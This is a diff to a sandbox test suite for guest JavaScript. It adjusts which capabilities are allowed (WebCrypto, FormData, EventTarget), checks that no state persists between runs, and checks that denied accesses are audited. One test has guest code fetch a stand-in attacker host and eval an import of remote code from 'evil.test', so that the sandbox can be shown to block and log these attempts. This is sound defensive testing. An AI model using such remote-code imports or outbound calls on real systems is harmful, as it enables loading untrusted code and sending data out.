@@ -71,18 +71,7 @@ describe.each([
 
 describe('what is nearest to an attack and allowed works', () => {
   test.for([
-    [
-      'node:path and node:buffer load',
-      `return (await import('node:path')).join('a', (await import('node:buffer')).Buffer.from('b').toString())`,
-      'a/b',
-    ],
-    ['a data: module loads', `return (await import('data:text/javascript,export default 42')).default`, 42],
-    [
-      'sqlite works in memory',
-      `const { DatabaseSync } = await import('node:sqlite'); return new DatabaseSync(':memory:').prepare('SELECT 6 * 7 AS n').get().n`,
-      42,
-    ],
-    ['a fresh function runs', `return new Function('return 6 * 7')()`, 42],
+    ['bytes are written as text', `return Buffer.from('hi').toString('base64') + btoa('hi')`, 'aGk=aGk='],
     [
       'WebAssembly compiles',
       `return (await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).instance instanceof WebAssembly.Instance`,
@@ -105,9 +94,19 @@ describe('what is nearest to an attack and allowed works', () => {
       { href: 'http://a.test/b' },
     ],
     [
-      'an event emitter works',
-      `const { EventEmitter } = await import('node:events'); let n = 0; new EventEmitter().on('x', () => n++).emit('x'); return n`,
+      'events are dispatched',
+      `let n = 0; const target = new EventTarget(); target.addEventListener('x', () => n++); target.dispatchEvent(new Event('x')); return n`,
       1,
+    ],
+    [
+      'forms and files hold what they are given',
+      `const form = new FormData(); form.append('a', new File(['hi'], 'a.txt', { type: 'text/plain' })); return [form.get('a').name, await form.get('a').text(), form.get('a') instanceof File]`,
+      ['a.txt', 'hi', true],
+    ],
+    [
+      'a message is signed and a symmetric key made',
+      `const key = await crypto.subtle.generateKey({ name: 'HMAC', hash: 'SHA-256' }, true, ['sign', 'verify']); const data = new Uint8Array(3); return crypto.subtle.verify('HMAC', key, await crypto.subtle.sign('HMAC', key, data), data)`,
+      true,
     ],
   ] as const)('%s', async ([, program, result], { sandbox }) => {
     const run = await sandbox.run(guestJob(program))
@@ -130,14 +129,14 @@ describe('what is nearest to an attack and allowed works', () => {
 
 test('nothing outlives a run: what one program leaves, the next one does not find', async ({ sandbox }) => {
   const leave = `globalThis.left = 1; Object.prototype.left = 1
-    const channel = new BroadcastChannel('left'); channel.postMessage('left')
+    try { new BroadcastChannel('left').postMessage('left') } catch {}
     try { sessionStorage.setItem('left', '1') } catch {}
     try { localStorage.setItem('left', '1') } catch {}
     try { await (await caches.open('left')).put('http://a.test/', new Response('1')) } catch {}
     return 'left'`
   const look = `const found = []
     if ('left' in globalThis) found.push('global')
-    new BroadcastChannel('left').onmessage = () => found.push('channel')
+    try { new BroadcastChannel('left').onmessage = () => found.push('channel') } catch {}
     try { if (sessionStorage.getItem('left')) found.push('session') } catch {}
     try { if (localStorage.getItem('left')) found.push('local') } catch {}
     try { if (await caches.has('left')) found.push('cache') } catch {}
@@ -154,16 +153,16 @@ test('nothing outlives a run: what one program leaves, the next one does not fin
 test('accesses that were denied are told, with their targets, once each', async ({ sandbox }) => {
   const run = await sandbox.run(
     guestJob(`for (let i = 0; i < 50; i++) try { await fetch('http://evil.test:8443/') } catch {}
-      try { await import('https://evil.test/x.js') } catch {}
+      try { eval('import("https://evil.test/x.js")') } catch {}
       return 'done'`),
   )
 
-  const expected = [
-    { kind: 'import', target: 'evil.test:443', allowed: false },
-    { kind: 'net', target: 'evil.test:8443', allowed: false },
-  ]
+  const evaluated = { kind: 'eval', target: 'eval', allowed: false }
+  const expected = [evaluated, { kind: 'net', target: 'evil.test:8443', allowed: false }]
   expect(run.result).toBe('done')
-  expect(run.attempts).toEqual(sandbox.layers.includes('audit') ? expect.arrayContaining(expected) : [])
+  expect(run.attempts).toEqual(
+    sandbox.layers.includes('audit') ? expect.arrayContaining(expected) : [evaluated],
+  )
 })
 
 async function expectUntouched(canaries: Canaries): Promise<void> {
